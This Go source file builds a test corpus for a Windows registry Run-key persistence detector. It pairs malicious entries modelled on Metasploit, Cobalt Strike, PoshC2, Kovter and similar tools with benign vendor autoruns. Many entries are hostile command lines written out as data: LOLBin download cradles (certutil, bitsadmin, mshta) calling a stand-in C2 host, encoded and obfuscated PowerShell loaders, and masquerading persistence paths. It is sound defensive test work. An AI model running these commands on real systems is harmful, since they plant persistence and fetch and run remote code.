package main

import "strings"

// The values below grow the corpus for issue 9: persistence that is not an
// Empire stager (plain binaries in odd folders, masquerading names, LOLBin
// proxies, obfuscated command lines) and the vendor software that must stay
// benign beside them. Malicious values follow public descriptions of the
// tools named in each family; paths, names and hosts are the tools'
// defaults or shaped like them, every host is a reserved name.

// bad is a malicious entry expected at least suspicious.
func bad(key string, v regValue, loc, family string, inds ...string) entry {
	return entry{key: key, v: v, loc: loc, family: family, verdict: verdictS, inds: inds}
}

// good is a benign entry whose payload references are not checked (some
// vendor commands run a script or DLL that is not in the collection).
func good(key string, v regValue, loc, family string) entry {
	return entry{key: key, v: v, loc: loc, family: "benign:" + family, verdict: verdictB}
}

func addDepthCorpus(c *corpusFile) {
	const (
		la = `C:\Users\alice\AppData`
		lb = `C:\Users\bob\AppData`
	)
	// ------------------------------------------------------------ malicious: the image itself
	// Metasploit exploit/windows/local/persistence (and the older
	// meterpreter persistence script): a random-named VBScript in %TEMP%
	// under a random value name.
	c.add(bad(u1Run, sz("pZkQwVbNx", la+`\Local\Temp\tSGkXqzVbRw.vbs`), "run", "metasploit_persistence_vbs",
		"staging_folder_image", "random_name", "script_file_payload"))
	// The same module as SYSTEM: an EXE in C:\Windows\TEMP.
	c.add(bad(mRun, sz("qLzKsnWpe", `C:\Windows\TEMP\PqLzKsnWv.exe`), "run", "metasploit_persistence_exe",
		"staging_folder_image", "random_name"))
	// SharPersist -t reg -k hkcurun -c cmd.exe -a "/q /c <payload>".
	c.add(bad(u2Run, sz("Test", `C:\Windows\System32\cmd.exe /q /c C:\Users\Public\payload.exe`), "run", "sharpersist_reg_hkcurun",
		"staging_folder_image", "user_writable_image"))
	// SharPersist -k hklmrun under a Windows name.
	c.add(bad(mRun, sz("Windows Defender", `C:\ProgramData\Microsoft\Windows\defender.exe`), "run", "sharpersist_reg_hklmrun_masquerade",
		"autorun_name_mismatch"))
	// Covenant PersistAutorun task: the Grunt launcher in a public folder.
	c.add(bad(u1Run, sz("Update", `C:\Users\Public\GruntHTTP.exe`), "run", "covenant_persist_autorun", "staging_folder_image"))
	// Cobalt Strike DLL beacon through rundll32: bare name and %TEMP%.
	c.add(bad(u1Run, sz("MsUpdate", `rundll32.exe beacon.dll,StartW`), "run", "cobaltstrike_rundll32_bare_dll", "rundll32_unusual_dll"))
	c.add(bad(mRun, sz("WinSvc", `C:\Windows\System32\rundll32.exe C:\Windows\Temp\msupd.dll,StartW`), "run", "cobaltstrike_rundll32_temp_dll", "rundll32_unusual_dll"))
	// Ryuk: a Run value "svchos" starting the copy in \Users\Public.
	c.add(bad(u2Run, sz("svchos", `C:\Users\Public\GzKxRtbNq.exe`), "run", "ryuk_run", "staging_folder_image"))
	// Mustang Panda PlugX: a side-loading host in \Users\Public\Libraries.
	c.add(bad(mRun, sz("AAM Updates", `"C:\Users\Public\Libraries\AAM Updates\AAM Updates.exe" 209 1`), "run", "mustang_panda_plugx", "staging_folder_image"))
	// Turla Mosquito: the backdoor DLL run by rundll32 from %APPDATA%.
	c.add(bad(u2Run, sz("ctfmon32", `rundll32.exe "`+lb+`\Roaming\kernel32.dll",StartRoutine`), "run", "turla_mosquito_rundll32", "rundll32_unusual_dll"))
	// Kovter-style random folder and file names under %LOCALAPPDATA%.
	c.add(bad(u2Run, sz("mNz7qTb", `"`+lb+`\Local\Xk3vQp9RtL2w\mNz7qTb.exe"`), "run", "kovter_random_names", "random_name"))
	// Masquerading system binaries (MITRE T1036.005 examples).
	c.add(bad(u1Run, sz("svchost", la+`\Roaming\svchost.exe`), "run", "masquerade_svchost_appdata", "masquerading_image", "staging_folder_image"))
	c.add(bad(u2Run, sz("csrss", `"`+lb+`\Local\Microsoft\csrss.exe"`), "run", "masquerade_csrss_localappdata", "masquerading_image"))
	c.add(bad(mRun, sz("Local Security", `C:\ProgramData\Microsoft\Crypto\lsass.exe`), "run", "masquerade_lsass_programdata", "masquerading_image"))
	c.add(bad(u1RunOnce, sz("Shell", la+`\Local\Temp\explorer.exe`), "run_once", "masquerade_explorer_temp", "masquerading_image", "staging_folder_image"))
	c.add(bad(mWowRun, sz("taskhost", `C:\Windows\Tasks\taskhostw.exe`), "run_wow64", "masquerade_taskhostw_tasks", "masquerading_image", "staging_folder_image"))
	// Well-known names pointing elsewhere.
	c.add(bad(u1Run, sz("SecurityHealth", la+`\Roaming\SecurityHealth\SecurityHealth.exe`), "run", "name_mismatch_securityhealth", "autorun_name_mismatch"))
	c.add(bad(mWowRun, sz("OneDrive", `C:\ProgramData\OneDrive\OneDriveUpdate.exe`), "run_wow64", "name_mismatch_onedrive", "autorun_name_mismatch"))
	c.add(bad(u2Run, sz("ctfmon", lb+`\Roaming\ctfmon.exe`), "run", "name_mismatch_ctfmon", "masquerading_image", "staging_folder_image"))
	// Extensions installers do not use.
	c.add(bad(u1Run, sz("Screen", la+`\Roaming\Microsoft\Windows\Screen.scr /s`), "run", "screensaver_image", "unusual_extension"))
	c.add(bad(u2Run, sz("setup", lb+`\Local\Temp\setup.com`), "run", "com_image_temp", "unusual_extension", "staging_folder_image"))
	c.add(bad(u1Run, sz("Invoice", `"C:\Users\alice\Downloads\Invoice_0423.pdf.exe"`), "run", "double_extension", "unusual_extension"))
	c.add(bad(u2Run, sz("Display", `control.exe "`+lb+`\Local\Temp\display.cpl"`), "run", "control_panel_applet", "unusual_extension"))
	c.add(bad(mRun, sz("pifupd", `C:\ProgramData\update.pif`), "run", "pif_image", "unusual_extension", "staging_folder_image"))

	// PoshC2 Install-Persistence: "IEUpdate" reading its launcher from a
	// value under Themes.
	c.store(u2CV+`\Themes`, sz("Wallpaper777", encUTF16(cradle("poshc2-persistence", "/poshc2"))))
	c.add(bad(u2Run, sz("IEUpdate", psExe+` -exec bypass -Noninteractive -windowstyle hidden -c "$x=(Get-ItemProperty -Path Registry::HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Themes\).Wallpaper777; iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($x)))"`),
		"run", "poshc2_install_persistence", "exec_policy_bypass", "hidden_window", "invoke_expression"))
	// Kovter: mshta JScript reading its next stage from a random key.
	c.store(u1+`\xifuswuqo`, sz("qbeuwoyi", `/* runkeyhunt test fixture (kovter): inert */ a=new ActiveXObject("WScript.Shell");a.Run("powershell -nop -w hidden -c exit",0,false);`))
	c.add(bad(u1Run, sz("b2a4c9", `mshta javascript:lMT3kaC9="bZ1";b6c3=new ActiveXObject("WScript.Shell");qUg2QW=b6c3.RegRead("HKCU\\software\\xifuswuqo\\qbeuwoyi");eval(qUg2QW);close()`),
		"run", "kovter_mshta_regread", "lolbin_script", "invoke_expression"))

	// ------------------------------------------------------------ malicious: LOLBin proxies (LOLBAS)
	c.add(bad(u1Run, sz("PcaSvc", `C:\Windows\System32\pcalua.exe -a C:\Users\Public\svc.exe`), "run", "lolbin_pcalua", "lolbin_proxy", "staging_folder_image"))
	c.add(bad(u2Run, sz("Notepad", `forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\n.exe"`), "run", "lolbin_forfiles", "lolbin_proxy", "staging_folder_image"))
	c.add(bad(mRun, sz("CMSTP", `cmstp.exe /s /ns C:\Users\Public\corp.inf`), "run", "lolbin_cmstp", "lolbin_proxy"))
	c.add(bad(mRunOnce, sz("MsiUpd", `msiexec /q /i http://c2.example.invalid/a.msi`), "run_once", "lolbin_msiexec_http", "lolbin_proxy"))
	c.add(bad(u1Run, sz("Help", `hh.exe http://c2.example.invalid/help.chm`), "run", "lolbin_hh_http", "lolbin_proxy"))
	c.add(bad(u2Run, sz("HtaUpd", `mshta.exe http://c2.example.invalid/a.hta`), "run", "lolbin_mshta_http", "lolbin_proxy", "download_cradle"))
	c.add(bad(u1Run, sz("UrlOpen", `rundll32.exe url.dll,FileProtocolHandler `+la+`\Local\Temp\p.exe`), "run", "lolbin_rundll32_url_dll", "lolbin_proxy", "staging_folder_image"))
	c.add(bad(u2Run, sz("ShellExec", `rundll32 shell32.dll,ShellExec_RunDLL C:\Users\Public\Libraries\x.exe`), "run", "lolbin_rundll32_shellexec", "lolbin_proxy", "staging_folder_image"))
	c.add(bad(mRun, sz("WmiSvc", `wmic process call create "C:\Windows\Temp\svchost.exe"`), "run", "lolbin_wmic_process_create", "lolbin_proxy", "masquerading_image"))
	c.add(bad(u1Run, sz("BitsSync", `bitsadmin /transfer job /download /priority high http://c2.example.invalid/a.exe C:\Users\Public\a.exe`), "run", "lolbin_bitsadmin", "lolbin_proxy", "download_cradle"))
	c.add(bad(u2Run, sz("CertSync", `certutil.exe -urlcache -split -f http://c2.example.invalid/a.exe C:\Users\Public\a.exe`), "run", "lolbin_certutil_urlcache", "lolbin_proxy", "download_cradle"))
	c.add(bad(u1Run, sz("BuildSvc", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe `+la+`\Roaming\build.xml`), "run", "lolbin_msbuild", "lolbin_proxy"))
	c.add(bad(mRun, sz("InstUtil", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\Public\x.dll`), "run", "lolbin_installutil", "lolbin_proxy"))
	c.add(bad(u2Run, sz("JobRunner", `cscript.exe //nologo C:\Users\Public\Libraries\job.vbs`), "run", "lolbin_cscript_public_script", "lolbin_proxy"))
	c.add(bad(u1Run, sz("ConHost", `conhost.exe --headless powershell -nop -w hidden -c "iex (irm http://c2.example.invalid/a)"`), "run", "lolbin_conhost_headless", "lolbin_proxy"))
	c.add(bad(u2Run, sz("Explorer", `explorer.exe C:\ProgramData\a.exe`), "run", "lolbin_explorer_path", "staging_folder_image"))
	c.add(bad(u1Run, sz("StartMin", `cmd.exe /c start "" /min C:\Users\Public\run.exe`), "run", "cmd_start_public", "staging_folder_image", "user_writable_image"))

	// ------------------------------------------------------------ malicious: obfuscated command lines
	c.add(bad(u2Run, sz("CaretEnc", `c^m^d /c p^o^w^e^r^s^h^e^l^l -n^op -w h^idden -e^nc `+encUTF16(cradle("dosfuscation-carets", "/c"))),
		"run", "dosfuscation_carets", "encoded_command", "download_cradle"))
	quoted := entry{key: u1Run, v: sz("QuotedFlags", `powershell "-w" "hidden" "-enc" "`+encUTF16(cradle("quoted-flags", "/q"))+`"`),
		loc: "run", family: "quoted_flags_encodedcommand", verdict: verdictM, kind: kindInline, exists: exists1,
		enc: "base64/utf16le", preview: "runkeyhunt test fixture (quoted-flags)", inds: []string{"download_cradle", "encoded_command", "hidden_window"}}
	c.add(quoted)
	c.store(u1+`\Kx3`, sz("d", encUTF16(empireStager("backtick-gp", "/news.php"))))
	c.add(entry{key: u1Run, v: sz("TickLoader", "powershell -w hidden -c \"i`e`x ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((g`p HKCU:\\Software\\Kx3 d).d)))\""),
		loc: "run", family: "backtick_registry_loader", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1 + `\Kx3\d`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (backtick-gp)", inds: []string{"amsi_bypass", "registry_payload"}})
	c.store(u2+`\Microsoft\Kx4`, sz("d", encUTF16(empireStager("concatenated-key", "/login/process.php"))))
	c.add(entry{key: u2Run, v: sz("ConcatLoader", `powershell -w hidden -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp ('HKCU:Software\'+'Microsoft\Kx4') d).d)))"`),
		loc: "run", family: "concatenated_registry_key", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u2 + `\Microsoft\Kx4\d`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (concatenated-key)", inds: []string{"amsi_bypass", "registry_payload"}})
	c.store(u1+`\Microsoft\Kx5`, sz("d", encUTF16(powerSploitScript("variable-key"))))
	c.add(entry{key: u1Run, v: sz("VarLoader", `powershell -nop -w hidden -c "$a='HKCU:\Software\Microsoft\Kx5'; iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((gp $a d).d)))"`),
		loc: "run", family: "variable_registry_key", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u1 + `\Microsoft\Kx5\d`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (variable-key)", inds: []string{"download_cradle", "registry_payload"}})
	c.add(bad(u2Run, sz("CharIex", `powershell -nop -w hidden -c "&([char]105+[char]101+[char]120) (New-Object ('Net.'+'WebC'+'lient')).DownloadString('http://c2.example.invalid/c')"`),
		"run", "char_codes_and_concatenation", "download_cradle", "invoke_expression"))
	c.add(entry{key: u1RunOnce, v: sz("SetPs", `cmd /c "set a=power&& set b=shell&& call %a%%b% -w hidden -enc `+encUTF16(cradle("dosfuscation-set", "/d"))+`"`),
		loc: "run_once", family: "dosfuscation_set_variables", verdict: verdictS, kind: kindInline, exists: exists1,
		enc: "base64/utf16le", preview: "runkeyhunt test fixture (dosfuscation-set)", inds: []string{"download_cradle"}})
	c.add(entry{key: u2RunOnce, v: sz("SubstrPs", `cmd /c %ProgramData:~3,1%%ProgramData:~5,1%wershell -enc `+encUTF16(cradle("dosfuscation-substrings", "/e"))),
		loc: "run_once", family: "dosfuscation_env_substrings", verdict: verdictS, kind: kindInline, exists: exists1,
		enc: "base64/utf16le", preview: "runkeyhunt test fixture (dosfuscation-substrings)", inds: []string{"download_cradle"}})
	c.store(u2+`\Microsoft\Kx6`, sz("cfg", encUTF16(empireStager("regread-from-powershell", "/admin/get.php"))))
	c.add(entry{key: u2Run, v: sz("ComRegRead", `powershell -w hidden -c "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String((New-Object -ComObject WScript.Shell).RegRead('HKCU\Software\Microsoft\Kx6\cfg'))))"`),
		loc: "run", family: "com_regread_powershell_quoting", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u2 + `\Microsoft\Kx6\cfg`, enc: "base64/utf16le", preview: "runkeyhunt test fixture (regread-from-powershell)", inds: []string{"amsi_bypass", "registry_payload"}})

	// A Metasploit-style deflate stage whose first deflate block is stored
	// text: the stream reads as text until it is inflated (issue 9 item 9).
	lead := strings.Repeat("# runkeyhunt test fixture: stored deflate block of plain text ahead of the compressed stage\n", 48)
	c.store(u2+`\Bq8Nz`, sz("Rt5Wk", encDeflateStoredLead(lead, metasploitScript("stored-deflate-block"))))
	c.add(entry{key: u2Run, v: sz("rTqWvXnZ", `%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c "sleep 1; iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String((Get-Item 'HKCU:Software\Bq8Nz').GetValue('Rt5Wk')),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"`),
		loc: "run", family: "deflate_stored_first_block", verdict: verdictM, kind: kindRegistry, exists: exists1,
		ppath: u2 + `\Bq8Nz\Rt5Wk`, enc: "base64/deflate/utf8", preview: "runkeyhunt test fixture",
		inds: []string{"compressed_payload", "download_cradle", "registry_payload"}})

	// ------------------------------------------------------------ benign: machine-wide vendor software
	pf, pf86 := `C:\Program Files`, `C:\Program Files (x86)`
	c.add(good(mRun, sz("AvastUI.exe", `"`+pf+`\Avast Software\Avast\AvLaunch.exe" /gui`), "run", "avast"))
	c.add(good(mRun, sz("PanGPA", `"`+pf+`\Palo Alto Networks\GlobalProtect\PanGPA.exe"`), "run", "globalprotect"))
	c.add(good(mRun, sz("KeePass 2 PreLoad", `"`+pf+`\KeePass Password Safe 2\KeePass.exe" --preload`), "run", "keepass"))
	c.add(good(mRun, sz("Greenshot", pf+`\Greenshot\Greenshot.exe`), "run", "greenshot"))
	c.add(good(mRun, sz("Everything", `"`+pf+`\Everything\Everything.exe" -startup`), "run", "everything"))
	c.add(good(mRun, sz("WavesSvc", `"C:\Windows\System32\DriverStore\FileRepository\wavesapo9de.inf_amd64_d0b3f1a3c3e9f0a3\WavesSvc64.exe" -Jack`), "run", "waves_audio"))
	c.add(good(mRun, expandSZ("ETDCtrl", `%ProgramFiles%\Elantech\ETDCtrl.exe`), "run", "elantech_touchpad"))
	c.add(good(mRun, sz("IAStorIcon", `"`+pf+`\Intel\Intel(R) Rapid Storage Technology\IAStorIconLaunch.exe" "`+pf+`\Intel\Intel(R) Rapid Storage Technology\IAStorIcon.exe" 60`), "run", "intel_rst"))
	c.add(good(mRun, sz("Sophos UI.exe", `"`+pf+`\Sophos\Sophos UI\Sophos UI.exe" /AutoStart`), "run", "sophos"))
	c.add(good(mRun, sz("egui", `"`+pf+`\ESET\ESET Security\ecmds.exe" /run /hide /proxy`), "run", "eset"))
	c.add(good(mRun, sz("MSC", `"c:\Program Files\Microsoft Security Client\msseces.exe" -hide -runkey`), "run", "microsoft_security_essentials"))
	c.add(good(mRun, sz("FortiTray", `"`+pf+`\Fortinet\FortiClient\FortiTray.exe"`), "run", "forticlient"))
	c.add(good(mRun, sz("ZSATray", `"`+pf+`\Zscaler\ZSATray\ZSATray.exe"`), "run", "zscaler"))
	c.add(good(mRun, sz("OneDrive", `"`+pf+`\Microsoft OneDrive\OneDrive.exe" /background`), "run", "onedrive_machine_wide"))
	c.add(good(mRun, sz("Bginfo", `C:\BGInfo\Bginfo64.exe C:\BGInfo\default.bgi /timer:0 /nolicprompt /silent`), "run", "sysinternals_bginfo"))
	c.add(good(mRun, sz("LogonScript", `cmd.exe /c \\contoso.com\NETLOGON\logon.cmd`), "run", "netlogon_logon_script"))
	c.add(good(mRun, sz("MapDrives", `wscript.exe \\contoso.com\SYSVOL\contoso.com\scripts\mapdrives.vbs`), "run", "sysvol_logon_script"))
	c.add(good(mRun, sz("Contoso Inventory", `"`+pf+`\Contoso\Inventory\agent.exe" --logon`), "run", "inventory_agent"))
	c.add(good(mWowRun, sz("Cisco AnyConnect Secure Mobility Agent for Windows", `"`+pf86+`\Cisco\Cisco AnyConnect Secure Mobility Client\vpnui.exe" -minimized`), "run_wow64", "cisco_anyconnect"))
	c.add(good(mWowRun, sz("vmware-tray.exe", `"`+pf86+`\VMware\VMware Workstation\vmware-tray.exe"`), "run_wow64", "vmware_workstation"))
	c.add(good(mWowRun, sz("NvBackend", `"`+pf86+`\NVIDIA Corporation\Update Core\NvBackend.exe"`), "run_wow64", "nvidia_update"))
	c.add(good(mWowRun, sz("AdobeAAMUpdater-1.0", `"`+pf86+`\Common Files\Adobe\OOBE\PDApp\UWA\UpdaterStartupUtility.exe"`), "run_wow64", "adobe_aam_updater"))
	c.add(good(mWowRun, sz("AdobeGCInvoker-1.0", `"`+pf86+`\Common Files\Adobe\AdobeGCClient\AGCInvokerUtility.exe"`), "run_wow64", "adobe_gc_invoker"))
	c.add(good(mWowRun, sz("APSDaemon", `"`+pf86+`\Common Files\Apple\Apple Application Support\APSDaemon.exe"`), "run_wow64", "apple_application_support"))
	c.add(good(mWowRun, sz("QuickTime Task", `"`+pf86+`\QuickTime\QTTask.exe" -atboottime`), "run_wow64", "quicktime"))
	c.add(good(mWowRun, sz("Acrobat Assistant 8.0", `"`+pf86+`\Adobe\Acrobat DC\Acrobat\Acrotray.exe"`), "run_wow64", "acrobat"))
	c.add(good(mWowRun, sz("ConnectionCenter", `"`+pf86+`\Citrix\ICA Client\concentr.exe" /startup`), "run_wow64", "citrix_workspace"))
	c.add(good(mWowRun, sz("Redirector", `"`+pf86+`\Citrix\ICA Client\redirector.exe" /startup`), "run_wow64", "citrix_workspace"))
	c.add(good(mRunOnce, sz("Application Restart #0", `"`+pf+`\Google\Chrome\Application\chrome.exe" --restore-last-session --restart`), "run_once", "windows_restart_manager"))

	c.add(good(mRun, sz("LogiOptions", `"`+pf+`\Logitech\LogiOptions\LogiOptions.exe" /noui`), "run", "logitech_options"))

	// ------------------------------------------------------------ benign: per-user apps
	c.add(good(u2Run, sz("com.squirrel.Teams.Teams", `"`+lb+`\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe" --process-start-args "--system-initiated"`), "run", "teams_classic"))
	c.add(good(u2Run, sz("Discord", `"`+lb+`\Local\Discord\Update.exe" --processStart Discord.exe`), "run", "discord"))
	c.add(good(u2Run, sz("Spotify", `"`+lb+`\Roaming\Spotify\Spotify.exe" --autostart --minimized`), "run", "spotify"))
	c.add(good(u2Run, sz("Zoom", `"`+lb+`\Roaming\Zoom\bin\Zoom.exe" --autostart`), "run", "zoom"))
	c.add(good(u2Run, sz("com.squirrel.slack.slack", `"`+lb+`\Local\slack\slack.exe" --process-start-args --startup`), "run", "slack"))
	c.add(good(u1Run, sz("Telegram Desktop", `"`+la+`\Roaming\Telegram Desktop\Telegram.exe" -autostart`), "run", "telegram"))
	c.add(good(u1Run, sz("electron.app.Signal", `"`+la+`\Local\Programs\signal-desktop\Signal.exe" --start-in-tray`), "run", "signal"))
	c.add(good(u1Run, sz("Figma Agent", `"`+la+`\Local\FigmaAgent\figma_agent.exe"`), "run", "figma_agent"))
	c.add(good(u1Run, sz("CiscoSpark", `"`+la+`\Local\CiscoSparkLauncher\CiscoCollabHost.exe" /minimized`), "run", "webex"))
	c.add(good(u1Run, sz("GoogleDriveFS", `"`+pf+`\Google\Drive File Stream\launch.bat"`), "run", "google_drive"))
	c.add(good(u1Run, sz("Lync", `"`+pf+`\Microsoft Office\root\Office16\lync.exe" /fromrunkey`), "run", "skype_for_business"))
	c.add(good(u1Run, sz("Skype for Desktop", pf86+`\Microsoft\Skype for Desktop\Skype.exe /minimized /regRun`), "run", "skype"))
	c.add(good(u1Run, sz("EpicGamesLauncher", `"`+pf86+`\Epic Games\Launcher\Portal\Binaries\Win64\EpicGamesLauncher.exe" -silent`), "run", "epic_games"))
	c.add(good(u2Run, sz("Docker Desktop", `"`+pf+`\Docker\Docker\Docker Desktop.exe" -Autostart`), "run", "docker_desktop"))
	c.add(good(u2Run, sz("JetBrains Toolbox", `"`+lb+`\Local\JetBrains\Toolbox\bin\jetbrains-toolbox.exe" --minimize`), "run", "jetbrains_toolbox"))
	c.add(good(u2Run, sz("ShareX", `"`+pf+`\ShareX\ShareX.exe" -silent`), "run", "sharex"))
	c.add(good(u2Run, sz("Google Update", `"`+lb+`\Local\Google\Update\1.3.36.352\GoogleUpdateCore.exe"`), "run", "google_update_per_user"))
	c.add(good(u2Run, sz("CCleaner Smart Cleaning", `"`+pf+`\CCleaner\CCleaner64.exe" /MONITOR`), "run", "ccleaner"))
	c.add(good(u2Run, sz("f.lux", `"`+lb+`\Local\FluxSoftware\Flux\flux.exe" /noshow`), "run", "flux"))
	c.add(good(u2Run, sz("Lightshot", lb+`\Roaming\Skillbrains\lightshot\Lightshot.exe`), "run", "lightshot"))
	c.add(good(u2Run, sz("Opera Browser Assistant", lb+`\Local\Programs\Opera\assistant\browser_assistant.exe`), "run", "opera_assistant"))
	c.add(good(u2Run, sz("MicrosoftEdgeAutoLaunch_1F2E3D4C5B6A79880796A5B4C3D2E1F0", `"`+pf86+`\Microsoft\Edge\Application\msedge.exe" --no-startup-window --win-session-start /prefetch:5`), "run", "edge_autolaunch"))
	c.add(good(u1Run, sz("MSTeams", `ms-teams.exe msteams:system-initiated`), "run", "teams_new"))
	c.add(good(u2Run, sz("Nextcloud", `"`+pf+`\Nextcloud\nextcloud.exe" --background`), "run", "nextcloud"))
	c.add(good(u2Run, sz("Steam", `"`+pf86+`\Steam\steam.exe" -silent`), "run", "steam"))

	// ------------------------------------------------------------ benign: Windows' own RunOnce entries
	c.add(good(u1RunOnce, sz("wextract_cleanup0", `rundll32.exe C:\Windows\system32\advpack.dll,DelNodeRunDLL32 "`+la+`\Local\Temp\IXP000.TMP\"`), "run_once", "iexpress_cleanup"))
	c.add(good(u1RunOnce, sz("Application Restart #1", `"`+la+`\Local\Programs\Microsoft VS Code\Code.exe"`), "run_once", "windows_restart_manager"))
	c.add(good(u2RunOnce, sz("Delete Cached Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "`+lb+`\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`), "run_once", "onedrive_cleanup"))
	c.add(good(u2RunOnce, sz("Uninstall 23.158.0730.0001", `C:\Windows\system32\cmd.exe /q /c rmdir /s /q "`+lb+`\Local\Microsoft\OneDrive\23.158.0730.0001\amd64"`), "run_once", "onedrive_cleanup"))
	c.add(good(mRunOnce, expandSZ("SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`), "run_once", "security_health"))
	c.add(good(u1RunOnce, sz("OneDrive", `"`+la+`\Local\Microsoft\OneDrive\OneDrive.exe" /background /firstrun`), "run_once", "onedrive_first_run"))
}
